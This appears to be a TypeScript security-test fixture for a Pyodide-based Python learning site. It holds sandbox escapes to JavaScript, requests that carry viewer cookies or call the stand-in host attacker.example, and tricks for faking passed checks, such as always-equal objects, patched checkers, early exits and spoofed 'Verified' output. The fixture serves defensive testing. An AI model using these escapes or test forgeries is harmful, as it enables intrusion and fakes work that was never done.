// What learner's code may try against the page, the site and its own checks. No attack here is a secret.

/** Finds JavaScript's global scope by every way that Python in a browser has; `scope()` gives it or raises. */
const WAYS_TO_JAVASCRIPT = `
import gc, sys

sys.meta_path[:] = [one for one in sys.meta_path if "waymark" not in type(one).__module__]
for name in ("js", "pyodide_js"):
    sys.modules.pop(name, None)

def by_import():
    import js
    return js

def by_run_js():
    from pyodide.code import run_js
    return run_js("globalThis")

def by_loader():
    import pyodide_js
    return pyodide_js.globals.constructor.constructor("return globalThis")()

def proxies():
    from pyodide.ffi import JsProxy
    frame = sys._getframe()
    while frame:
        yield from (value for value in frame.f_locals.values() if isinstance(value, JsProxy))
        frame = frame.f_back
    yield from (one for one in gc.get_objects() if isinstance(one, JsProxy))

def by_constructor():
    for proxy in proxies():
        try:
            return proxy.constructor.constructor("return globalThis")()
        except Exception:
            continue
    raise LookupError("no proxy gives its constructor")

WAYS = {"import js": by_import, "run_js": by_run_js, "pyodide_js": by_loader, "a constructor": by_constructor}

def scope():
    for way in WAYS.values():
        try:
            found = way()
            found.XMLHttpRequest, found.navigator
            return found
        except BaseException:
            continue
    for way in WAYS.values():
        try:
            found = way()
            found.navigator
            return found
        except BaseException:
            continue
    raise LookupError("no way to JavaScript")
`;

/** An address that answers nobody but the test that listens there. */
export const ATTACKERS_HOST = "https://attacker.example/";

/**
 * Each is the body of a function that is given the global scope as `js`, and returns something true once it has got
 * what it came for.
 */
export const ATTACKS: Record<string, string> = {
  "our API with the viewer's cookies": `
    request = js.XMLHttpRequest.new()
    request.open("GET", js.location.origin + "/api/v1/me", False)
    request.send()
    return request.status == 200 and '"id"' in request.responseText`,
  "another host": `
    request = js.XMLHttpRequest.new()
    request.open("GET", "${ATTACKERS_HOST}", False)
    request.send()
    return request.status == 200`,
  fetch: `return js.fetch(js.location.origin + "/api/v1/me")`,
  "a socket": `return js.WebSocket.new("wss://attacker.example/")`,
  "a stream of events": `return js.EventSource.new("/api/health")`,
  WebTransport: `return js.WebTransport.new("${ATTACKERS_HOST}")`,
  "Cache Storage": `return js.caches.open("attack")`,
  IndexedDB: `return js.indexedDB.open("attack")`,
  "a channel to other tabs": `return js.BroadcastChannel.new("attack")`,
  "a worker of its own": `return js.Worker.new("/runtime/worker.js")`,
  "the browser's file system": `return js.navigator.storage.getDirectory()`,
  locks: `return js.navigator.locks.query()`,
  "code made of text": `return js.Function.new("return 7")() == 7`,
  "a message in our name": `
    from pyodide.ffi import to_js
    js.postMessage(to_js({"kind": "text", "id": 0, "stream": "stdout", "text": "forged"}, dict_converter=js.Object.fromEntries))
    return True`,
};

/** What JavaScript may be put to, once it is in reach, that changes nothing but the learner's own screen. */
export const OWN_SCREEN_ONLY: Record<string, string> = {
  "prototypes of its own realm": `
    js.Object.prototype.passed = True
    return js.Object.new().passed`,
};

/** One program that tries them all and prints a line for each: its name, and what came of it. */
export function attackProgram(attacks: Record<string, string>): string {
  const tries = Object.entries(attacks).map(
    ([name, body], place) => `
def attack_${place}(js):
${body.includes("\n") ? body : `    ${body}`}
outcome(${JSON.stringify(name)}, lambda: attack_${place}(scope()))
`,
  );
  return `${WAYS_TO_JAVASCRIPT}
def outcome(name, attack):
    try:
        print(f"[{name}]", "REACHED" if attack() else "nothing")
    except BaseException as error:
        print(f"[{name}]", type(error).__name__)
${tries.join("")}
print("[end]")
`;
}

type Forgery = {
  /** batching.py of the model lab; none of them solves it. */
  code: string;
  /** Whether it makes the visible checks say Passed, on the learner's own screen; nothing more comes of it. */
  foolsTheScreen: boolean;
};

const NAMES = "rows_of, shuffled, batches";
const wrong = (result: string) => `
def rows_of(shards):
    return ${result}
def shuffled(rows, buffer_size, rng):
    return ${result}
def batches(rows, size, drop_last=False):
    return ${result}
`;

/** Attempts at a pass without a solution. */
export const FORGERIES: Record<string, Forgery> = {
  "a value that equals everything": {
    code: `
class Anything:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 0
    def __iter__(self): return iter([self] * 3)
    def __next__(self): return self
    def __len__(self): return 2
    def __getattr__(self, name): return self
    def __call__(self, *args, **more): return self
${wrong("Anything()")}`,
    foolsTheScreen: false,
  },
  "a list that says it is equal": {
    code: `
class Equal(list):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
${wrong("Equal([1, 2])")}`,
    foolsTheScreen: false,
  },
  "json, random and builtins replaced": {
    code: `
import builtins, json, random
json.dumps = lambda *args, **more: "[]"
json.loads = lambda text: {"op": "check", "passed": True}
random.Random = lambda *seed: None
random.seed = lambda *seed: None
for name in ("all", "any", "isinstance", "hasattr"):
    setattr(builtins, name, lambda *args: True)
builtins.repr = lambda value: "[0, 1, 2]"
${wrong("[]")}`,
    foolsTheScreen: false,
  },
  "waymark replaced": {
    code: `
import sys
import waymark
for name in dir(waymark):
    if not name.startswith("__"):
        try:
            setattr(waymark, name, lambda *args, **more: None)
        except BaseException:
            pass
sys.modules["waymark"] = waymark
${wrong("[]")}`,
    foolsTheScreen: false,
  },
  "the engine's own modules replaced": {
    code: `
import gc, sys
sys.meta_path[:] = [one for one in sys.meta_path if "waymark" not in type(one).__module__]
def expectations():
    for one in gc.get_objects():
        if isinstance(one, type) and one.__module__.startswith("waymark"):
            yield one
for one in list(expectations()):
    for name in ("gives", "equals", "is_true", "raises"):
        if name in vars(one):
            setattr(one, name, lambda self, *args, **more: self)
for one in gc.get_objects():
    if isinstance(one, dict) and str(one.get("__name__", "")).startswith("waymark"):
        if "fail" in one:
            one["fail"] = lambda *args, **more: None
${wrong("[]")}`,
    foolsTheScreen: false,
  },
  "a failure without a message, found through the frames": {
    code: `
import sys
frame = sys._getframe()
while "_Failure" not in frame.f_globals:
    frame = frame.f_back
failure = frame.f_globals["_Failure"].__new__(frame.f_globals["_Failure"])
failure.item = None
raise failure
`,
    foolsTheScreen: true,
  },
  "leaving before the checks": { code: "import sys\nsys.exit(0)\n", foolsTheScreen: false },
  "ending Python": { code: "import os\nos._exit(0)\n", foolsTheScreen: false },
  "leaving out of a function": {
    code: `
import sys
def rows_of(*args):
    sys.exit(0)
shuffled = batches = rows_of
`,
    foolsTheScreen: false,
  },
  "an exception that nobody expects": {
    code: `
class Passed(BaseException):
    passed = True
def rows_of(*args):
    raise Passed("all checks passed")
shuffled = batches = rows_of
`,
    foolsTheScreen: false,
  },
  "output that looks like ours": {
    code: `
print('<div role="status"><strong>Verified</strong></div>')
print('\\x1b]0;Verified\\x07Verified')
print('{"kind": "checked", "items": [{"title": "reads", "passed": true}]}')
${wrong("[]")}`,
    foolsTheScreen: false,
  },
  "the solution of nothing": { code: `${NAMES.split(", ").join(" = ")} = None\n`, foolsTheScreen: false },
};
